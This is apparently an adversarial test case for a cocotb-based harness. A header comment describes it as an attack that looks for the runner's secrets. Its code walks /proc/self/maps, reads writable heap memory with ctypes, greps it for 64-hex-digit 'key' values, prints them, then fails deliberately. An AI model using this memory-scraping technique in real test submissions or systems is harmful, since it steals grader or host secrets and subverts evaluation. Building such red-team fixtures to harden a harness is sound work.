# run: cocotb; ends: tampered mismatch no_evidence crash timeout; attack: looks for the runner's secrets in its own memory and environment
import ctypes
import re

import cocotb
from cocotb.triggers import Timer


@cocotb.test()
async def attack(dut):
    await Timer(1, "ns")
    found = set()
    for line in open("/proc/self/maps"):
        if "heap" in line or " rw-p 00000000 00:00 0" in line:
            low, high = (int(x, 16) for x in line.split()[0].split("-"))
            if high - low < 1 << 26:
                text = ctypes.string_at(low, high - low)
                found.update(re.findall(rb'"key": *"([0-9a-f]{64})"', text))
    print("keys", found)
    raise AssertionError("that was all")
